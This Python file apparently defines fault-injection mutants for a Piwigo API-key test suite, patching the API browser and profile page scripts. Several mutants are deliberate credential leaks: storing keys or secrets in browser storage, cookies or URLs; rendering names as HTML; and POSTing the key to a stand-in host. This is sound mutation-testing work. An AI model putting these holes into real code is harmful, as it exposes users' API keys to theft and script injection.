"""Faults of what a person sees in a browser: the API browser and the profile page."""

from __future__ import annotations

from typing import Any, ClassVar

from piwigo_contract.errors import SuiteError
from piwigo_contract.reference.gallery import Gallery
from piwigo_contract.reference.mutants.registry import mutant


class _Page(Gallery):
    """Another script in a page. about: which page. changes: what stands in its source, and what in its place."""

    about: ClassVar[str]
    changes: ClassVar[dict[str, str]]

    def script(self, name: str, **values: Any) -> str:
        source = super().script(name, **values)
        if name == self.about:
            for right, wrong in self.changes.items():
                if right not in source:
                    raise SuiteError(f"{type(self).__name__}: {right!r} is not in {name}.html")
                source = source.replace(right, wrong)
        return source


class _ApiBrowser(_Page):
    about = "ws"


class _Profile(_Page):
    about = "profile"


# --- the API browser


@mutant("api-browser-without-a-field-for-a-key", "BRW-01")
class ApiBrowserWithoutAField(_ApiBrowser):
    """The API browser still knows cookies alone."""

    changes: ClassVar = {'<div class="header-setting">': '<div class="header-setting" hidden>'}


@mutant("api-browser-names-another-header", "BRW-01")
class ApiBrowserNamesAnotherHeader(_ApiBrowser):
    """The label of the field was not renamed together with the header."""

    changes: ClassVar = {'<p class="header-label">X-PIWIGO-API': '<p class="header-label">Authorization'}


@mutant("api-browser-sends-another-header", "BRW-02")
class ApiBrowserSendsAnotherHeader(_ApiBrowser):
    """The header that is sent was not renamed together with its label."""

    changes: ClassVar = {'headers: { "X-PIWIGO-API"': 'headers: { "Authorization"'}


@mutant("api-browser-sends-no-key", "BRW-02")
class ApiBrowserSendsNoKey(_ApiBrowser):
    """The key typed in is read before it is typed in."""

    changes: ClassVar = {'element("apiKey").value': 'element("apiKey").defaultValue'}


@mutant("api-browser-posts-without-the-key", "BRW-02")
class ApiBrowserPostsWithoutTheKey(_ApiBrowser):
    """The type of the body is set in place of the headers that were there, the key's among them."""

    changes: ClassVar = {
        'options.method = "POST";': 'options.method = "POST";\n'
        '    options.headers = { "Content-Type": "application/x-www-form-urlencoded" };'
    }


@mutant("api-browser-shows-nothing-of-a-refused-post", "BRW-03")
class ApiBrowserShowsNothingOfARefusedPost(_ApiBrowser):
    """The refusal of what was sent by POST is not shown."""

    changes: ClassVar = {"await answer.text();": 'answer.ok || !options.method ? await answer.text() : "stat";'}


@mutant("api-browser-asks-again-without-the-key", "BRW-03")
class ApiBrowserAsksAgain(_ApiBrowser):
    """A call that is refused is made again without the key."""

    changes: ClassVar = {
        "const answer = await fetch(url(method), options);": "let answer = await fetch(url(method), options);\n"
        "  if (answer.status === 401) answer = await fetch(url(method));"
    }


@mutant("api-browser-keeps-the-last-answer", "BRW-03")
class ApiBrowserKeepsTheLastAnswer(_ApiBrowser):
    """A refusal is not shown at all."""

    changes: ClassVar = {"await answer.text();": 'answer.ok ? await answer.text() : "stat";'}


@mutant("api-browser-remembers-the-key", "BRW-04")
class ApiBrowserRemembersTheKey(_ApiBrowser):
    """The key typed in is there again on the next visit."""

    changes: ClassVar = {"  const options =": '  localStorage.setItem("key", key);\n  const options ='}


@mutant("api-browser-puts-the-key-into-its-address", "BRW-04")
class ApiBrowserPutsTheKeyIntoItsAddress(_ApiBrowser):
    """What was typed in can be bookmarked."""

    changes: ClassVar = {"  const options =": '  history.replaceState(null, "", `#${key}`);\n  const options ='}


@mutant("api-browser-has-the-key-counted-elsewhere", "BRW-04")
class ApiBrowserHasTheKeyCountedElsewhere(_ApiBrowser):
    """What is typed in is told to somebody who counts visits."""

    changes: ClassVar = {
        "  const options =": '  fetch("http://127.0.0.1:9/", { method: "POST", body: key }).catch(() => {});\n'
        "  const options ="
    }


@mutant("api-browser-puts-the-key-into-the-query", "BRW-04")
class ApiBrowserPutsTheKeyIntoTheQuery(_ApiBrowser):
    """The key is in the address of the call as well, for servers that lose headers."""

    changes: ClassVar = {"fetch(url(method), options)": "fetch(`${url(method)}&key=${key}`, options)"}


@mutant("api-browser-names-a-page-with-the-key-as-referrer", "BRW-04")
class ApiBrowserNamesAPageWithTheKeyAsReferrer(_ApiBrowser):
    """The call is said to come from the address under which the page opens with the key filled in."""

    changes: ClassVar = {'{ credentials: "omit",': '{ referrer: `?key=${key}`, credentials: "omit",'}


# --- the profile page


@mutant("form-shows-no-secret", "BRW-05", also=("BRW-06",))
class FormShowsNoSecret(_Profile):
    """The form shows stars in place of the one secret that is to be seen."""

    changes: ClassVar = {"= made.apikey_secret": '= "*".repeat(40)'}


@mutant("form-shows-the-secret-cut", "BRW-05", also=("BRW-06",))
class FormShowsTheSecretCut(_Profile):
    """The field for the secret is shorter than a secret."""

    changes: ClassVar = {"= made.apikey_secret": "= made.apikey_secret.slice(0, 32)"}


@mutant("secret-kept-in-the-browser", "BRW-06")
class SecretKeptInTheBrowser(_Profile):
    """The secret is kept, so that it is not lost where the page is closed too soon."""

    changes: ClassVar = {
        "= made.apikey_secret;": "= made.apikey_secret;\n  sessionStorage.secret = made.apikey_secret;"
    }


@mutant("secret-shown-on-the-next-visit", "BRW-06")
class SecretShownOnTheNextVisit(_Profile):
    """The secret is put into a cookie, for the script to read on the next visit."""

    changes: ClassVar = {
        "= made.apikey_secret;": "= made.apikey_secret;\n  document.cookie = `last=${made.apikey_secret}`;"
    }


@mutant("secret-left-in-the-form", "BRW-11")
class SecretLeftInTheForm(_Profile):
    """What the form shows is still in it when it is closed, and seen when it is opened again."""

    changes: ClassVar = {'element("api_secret_key").value = "";': ""}


@mutant("secret-kept-for-the-button-that-copies-it", "BRW-11")
class SecretKeptForTheButtonThatCopiesIt(_Profile):
    """The button that copies the secret has it in an attribute, which is not emptied with the field."""

    changes: ClassVar = {
        "= made.apikey_secret;": '= made.apikey_secret;\n  element("api_secret_key").dataset.copy = made.apikey_secret;'
    }


@mutant("key-ends-a-day-early", "BRW-12")
class KeyEndsADayEarly(_Profile):
    """The days until the day chosen are rounded down."""

    changes: ClassVar = {"Math.ceil((new Date": "Math.floor((new Date"}


@mutant("day-chosen-does-not-count", "BRW-12")
class DayChosenDoesNotCount(_Profile):
    """The form forgets the day that was chosen, and makes a key with the duration that it offers first."""

    changes: ClassVar = {'chosen === "custom" ? ': 'chosen === "custom" ? 30 : chosen === "" ? '}


@mutant("name-runs-in-the-list", "BRW-13", also=("BRW-07",))
class NameRunsInTheList(_Profile):
    """A name is put into the list as HTML."""

    changes: ClassVar = {
        "let chosen = null;": "let chosen = null;\n"
        'for (const each of document.getElementsByClassName("api_name")) each.innerHTML = each.textContent;'
    }


@mutant("name-shown-without-its-markup", "BRW-13", also=("BRW-07",))
class NameShownWithoutItsMarkup(_Profile):
    """What looks like a tag is taken out of a name, and entities in what is left are markup once more."""

    changes: ClassVar = {
        "let chosen = null;": "let chosen = null;\n"
        'for (const each of document.getElementsByClassName("api_name"))\n'
        '  each.innerHTML = each.textContent.replace(/<[^>]*>/g, "");'
    }


@mutant("rename-on-the-page-alone", "BRW-07")
class RenameOnThePageAlone(_Profile):
    """A new name is shown until the page is loaded anew."""

    changes: ClassVar = {'await manage("edit",': 'await manage("get",'}


@mutant("first-key-of-the-list-renamed", "BRW-07")
class FirstKeyOfTheListRenamed(_Profile):
    """Whichever pencil is clicked, the first key is renamed."""

    changes: ClassVar = {
        'await manage("edit", { pkid: chosen.dataset.pkid': 'await manage("edit", { pkid: '
        'document.querySelector(".api-icon-action").dataset.pkid'
    }


@mutant("key-not-renamed-after-all-is-renamed-with-the-next", "BRW-07")
class KeyNotRenamedAfterAllIsRenamedWithTheNext(_Profile):
    """Closing the dialog leaves its key among those that are renamed next."""

    changes: ClassVar = {
        "chosen = each.parentElement;": "(window.every ??= []).push((chosen = each.parentElement));",
        'await manage("edit", { pkid: chosen.dataset.pkid, key_name: name });': "for (const one of every) "
        'await manage("edit", { pkid: one.dataset.pkid, key_name: name });',
    }


@mutant("revocation-on-the-page-alone", "BRW-08")
class RevocationOnThePageAlone(_Profile):
    """The key that is revoked is taken off the list, and nothing else happens."""

    changes: ClassVar = {'await manage("revoke",': 'await manage("get",'}


@mutant("first-key-of-the-list-revoked", "BRW-08")
class FirstKeyOfTheListRevoked(_Profile):
    """Whichever bin is clicked, the first key is revoked."""

    changes: ClassVar = {
        'await manage("revoke", { pkid: chosen.dataset.pkid': 'await manage("revoke", { pkid: '
        'document.querySelector(".api-icon-action").dataset.pkid'
    }


@mutant("keys-of-a-day-are-one-to-the-page", "BRW-08", "BRW-07")
class KeysOfADayAreOneToThePage(_Profile):
    """An entry of the list is found by the date in its key's id: of two of a day the first is meant."""

    changes: ClassVar = {
        "chosen = each.parentElement;": "chosen = document.querySelector("
        '`[data-pkid^="${each.parentElement.dataset.pkid.slice(0, 13)}"]`);'
    }


@mutant("revocation-cancelled-comes-with-the-next", "BRW-10")
class RevocationCancelledComesWithTheNext(_Profile):
    """Cancelling leaves the key among those that are revoked next."""

    changes: ClassVar = {
        "chosen = each.parentElement;": "(window.every ??= []).push((chosen = each.parentElement));",
        'await manage("revoke", { pkid: chosen.dataset.pkid });': "for (const one of every) "
        'await manage("revoke", { pkid: one.dataset.pkid });',
    }


@mutant("cancelling-revokes-as-well", "BRW-10")
class CancellingRevokesAsWell(_Profile):
    """Both buttons of the dialog are buttons, and the key is revoked at a click on a button."""

    changes: ClassVar = {
        'element("revoke_api_key").addEventListener("click"': "for (const button of "
        'document.querySelectorAll("#api_modal_revoke button")) button.addEventListener("click"'
    }


@mutant("neighbour-revoked-with-the-chosen-one", "BRW-10")
class NeighbourRevokedWithTheChosenOne(_Profile):
    """Whatever is in the list up to the entry that was chosen is meant, from the one before it on."""

    changes: ClassVar = {
        'await manage("revoke", { pkid: chosen.dataset.pkid });': 'const lines = [...document.querySelectorAll("'
        '.api-icon-action")], at = lines.indexOf(chosen);\n'
        '  for (const one of lines.slice(at - 1, at + 1)) await manage("revoke", { pkid: one.dataset.pkid });'
    }


@mutant("last-use-filled-in-by-a-script-that-fails", "BRW-09", also=("USED-19",))
class LastUseFilledInByAScriptThatFails(_Profile):
    """The script of the page reads the last use by a name that the field no longer has."""

    changes: ClassVar = {
        "let chosen = null;": "let chosen = null;\n"
        'for (const each of document.getElementsByClassName("api_last_use")) each.textContent = "Never";'
    }


@mutant("day-of-creation-shown-as-last-use", "BRW-09", also=("USED-19",))
class DayOfCreationShownAsLastUse(_Profile):
    """The list shows the day of creation in the column of the last use."""

    changes: ClassVar = {
        "let chosen = null;": "let chosen = null;\n"
        'for (const each of document.getElementsByClassName("api_last_use")) '
        "each.textContent = each.previousElementSibling.textContent;"
    }
